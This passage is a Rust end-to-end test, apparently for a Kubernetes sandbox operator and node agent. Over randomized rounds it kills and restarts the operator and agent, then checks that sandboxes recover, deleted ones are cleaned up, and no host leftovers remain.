        .unwrap_or_else(|| fastrand::u64(..));
    eprintln!("cluster crash: seed {seed}, {rounds} rounds");
    let mut rng = fastrand::Rng::with_seed(seed);
    let c = Cluster::new("e2e-crashrounds").await;
    let mut op = c.operator(&[]);
    let mut agent = c.agent("n1", &[]);
    wait_leases(&c, 1).await;
    let mut previous: Vec<String> = Vec::new();
    let mut locals: BTreeSet<String> = BTreeSet::new();
    for round in 0..rounds {
        let names: Vec<String> = (0..3).map(|i| format!("cr{round}-{i}")).collect();
        let yaml: Vec<String> = names.iter().map(|n| sandbox_yaml(n, "")).collect();
        c.apply(&yaml.join("---\n"));
        for n in &previous {
            let (ok, _, err) =
                c.kubectl(&["delete", "-n", &c.ns, "sandbox", n, "--wait=false"], None);
            assert!(ok, "{err}");
        }
        let victim = rng.u8(..3);
        tokio::time::sleep(Duration::from_millis(rng.u64(..400))).await;
        if victim != 1 {
            op.kill9();
        }
        if victim != 0 {
            agent.proc.kill9();
        }
        tokio::time::sleep(Duration::from_millis(rng.u64(..800))).await;
        if victim != 1 {
            op.restart();
        }
        if victim != 0 {
            agent.proc.restart();
        }
        let what = ["operator", "node-agent", "both"][victim as usize];
        let mut now = BTreeSet::new();
        for n in &names {
            let s = c
                .wait_sandbox(
                    n,
                    READY_TIMEOUT,
                    &format!("Ready after killing the {what}"),
                    is_ready,
                )
                .await;
            now.insert(local_of(&s));
        }
        // The deleted are gone, finalizers and all.
        let start = std::time::Instant::now();
        for n in &previous {
            while c.sandboxes().get_opt(n).await.unwrap().is_some() {
                assert!(
                    start.elapsed() < READY_TIMEOUT,
                    "round {round} ({what}): {n} is stuck: {:?}\noperator:\n{}",
                    c.sandboxes()
                        .get_opt(n)
                        .await
                        .unwrap()
                        .map(|s| s.metadata.finalizers),
                    op.log_tail()
                );
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        }
        // Exactly the objects' sandboxes run once the agent is back (a Ready written before
        // the kill stays until the node's lease expires: asked until it matches).
        let start = std::time::Instant::now();
        loop {
            let running: Option<BTreeSet<String>> = match agent.client().await.list().await {
                Ok(list) => Some(list.into_iter().map(|i| i.name).collect()),
                Err(_) => None,
            };
            if running.as_ref() == Some(&now) {
                break;
            }
            assert!(
                start.elapsed() < READY_TIMEOUT,
                "round {round} ({what}): the agent runs {running:?}, the objects say {now:?}"
            );
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        // What the deleted had is gone from the host. (Uplink interfaces are not named per
        // sandbox: they are counted.)
        for local in locals.difference(&now) {
            let left = agent.leftovers(local);
            let links = left.iter().filter(|l| l.starts_with("uplink")).count();
            assert!(links <= now.len(), "round {round}: {left:?}");
            let left: Vec<&String> = left.iter().filter(|l| !l.starts_with("uplink")).collect();
            assert_eq!(left, Vec::<&String>::new(), "round {round} ({what})");
        }
        locals = now;
        previous = names;
    }
    let (ok, _, err) = c.kubectl(
        &["delete", "-n", &c.ns, "sandboxes", "--all", "--wait=false"],
        None,
    );
    assert!(ok, "{err}");
    c.wait_no_sandboxes(READY_TIMEOUT).await;
    for local in &locals {
        assert_eq!(agent.leftovers(local), Vec::<String>::new());
    }
    eprintln!("cluster crash: {rounds} rounds converged (seed {seed})");
}
